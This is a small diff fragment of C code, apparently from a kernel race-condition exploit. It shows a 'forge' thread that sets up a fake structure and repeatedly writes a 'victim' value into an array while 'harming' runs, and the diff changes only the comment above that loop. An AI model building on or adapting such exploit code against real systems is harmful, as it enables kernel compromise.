@@ -289,7 +289,7 @@ static void *forge(void *arg)
     }
     fake->number[4] = 1;
     while (harming) {
-        /* after what the kernel writes to, where its answer is */
+        /* without the first three words */
         for (unsigned k = 3; k < 64 && forging; k++)
             __atomic_store_n(&at[k], victim, __ATOMIC_RELAXED);
     }
